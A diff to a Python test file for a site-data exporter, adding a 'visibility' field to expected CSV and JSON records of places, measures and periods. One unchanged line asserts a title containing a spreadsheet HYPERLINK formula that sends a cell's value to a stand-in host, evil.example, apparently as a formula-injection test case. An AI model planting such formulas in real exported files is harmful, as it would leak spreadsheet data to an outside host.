@@ -247,8 +247,8 @@ def test_json_keeps_the_text_and_numbers_stay_numbers(tmp_path: Path) -> None:
     records = json.loads(files["data/records.json"])
     assert records[1]["title"] == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
     # A negative value is a number, not text: written bare, never prefixed.
-    assert '\n"north-quay","balance","2025-01",-3\n' in files["data/measure-values.csv"]
-    assert '\n"north-quay","balance","2025-02",-2.5\n' in files["data/measure-values.csv"]
+    assert '\n"north-quay","balance","2025-01",-3,"public"\n' in files["data/measure-values.csv"]
+    assert '\n"north-quay","balance","2025-02",-2.5,"public"\n' in files["data/measure-values.csv"]
     values = json.loads(files["data/measure-values.json"])
     assert [v["value"] for v in values] == [-3, -2.5]
     assert_valid(write_files(tmp_path / "site", files))
@@ -475,22 +475,52 @@ def test_measure_values_are_long_format_sorted_and_only_of_published_places(tmp_
     root = write_tree(tmp_path / "content", tree)
     public = export(root)
     assert public["data/measure-values.csv"] == (
-        '"place","measure","period","value"\n'
-        '"hillfoot","participants","2024",400\n'
-        '"north-quay","confidence","2025-Q1",5.5\n'
-        '"north-quay","participants","2025-01",34\n'
-        '"north-quay","participants","2025-02",41\n'
+        '"place","measure","period","value","visibility"\n'
+        '"hillfoot","participants","2024",400,"public"\n'
+        '"north-quay","confidence","2025-Q1",5.5,"public"\n'
+        '"north-quay","participants","2025-01",34,"public"\n'
+        '"north-quay","participants","2025-02",41,"public"\n'
     )
     assert json.loads(public["data/measure-values.json"]) == [
-        {"place": "hillfoot", "measure": "participants", "period": "2024", "value": 400},
-        {"place": "north-quay", "measure": "confidence", "period": "2025-Q1", "value": 5.5},
-        {"place": "north-quay", "measure": "participants", "period": "2025-01", "value": 34},
-        {"place": "north-quay", "measure": "participants", "period": "2025-02", "value": 41},
+        {
+            "place": "hillfoot",
+            "measure": "participants",
+            "period": "2024",
+            "value": 400,
+            "visibility": "public",
+        },
+        {
+            "place": "north-quay",
+            "measure": "confidence",
+            "period": "2025-Q1",
+            "value": 5.5,
+            "visibility": "public",
+        },
+        {
+            "place": "north-quay",
+            "measure": "participants",
+            "period": "2025-01",
+            "value": 34,
+            "visibility": "public",
+        },
+        {
+            "place": "north-quay",
+            "measure": "participants",
+            "period": "2025-02",
+            "value": 41,
+            "visibility": "public",
+        },
     ]
     measures = json.loads(public["data/measures.json"])
     assert [(m["id"], m["aggregate"]) for m in measures] == [("confidence", "mean"), ("participants", "sum")]
     network = json.loads(export(root, "network")["data/measure-values.json"])
-    assert {"place": "hidden", "measure": "participants", "period": "2025-01", "value": 12} in network
+    assert {
+        "place": "hidden",
+        "measure": "participants",
+        "period": "2025-01",
+        "value": 12,
+        "visibility": "network",
+    } in network
     assert_valid(write_files(tmp_path / "site", public))
 
 
